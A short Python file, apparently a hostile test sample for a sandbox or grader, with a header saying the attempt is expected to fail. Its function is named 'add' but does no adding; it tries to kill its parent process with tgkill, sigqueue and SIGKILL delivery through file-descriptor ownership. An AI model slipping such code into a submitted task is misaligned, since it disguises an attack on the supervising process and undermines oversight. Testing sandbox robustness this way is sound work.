# {"tries": "interrupts the process above it by rt_sigqueueinfo, tgkill and through its descriptors' owner", "right": ["failed"]}
import ctypes
import fcntl
import os
import signal

LIBC = ctypes.CDLL(None, use_errno=True)
TGKILL = 131 if os.uname().machine == "aarch64" else 234


def add(a, b):
    above = os.getppid()
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        LIBC.syscall(TGKILL, above, above, int(number))
        LIBC.sigqueue(above, int(number), None)
    for number in range(8):
        try:
            fcntl.fcntl(number, fcntl.F_SETOWN, above)
            fcntl.fcntl(number, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(number, fcntl.F_SETFL, fcntl.fcntl(number, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass
    return 0
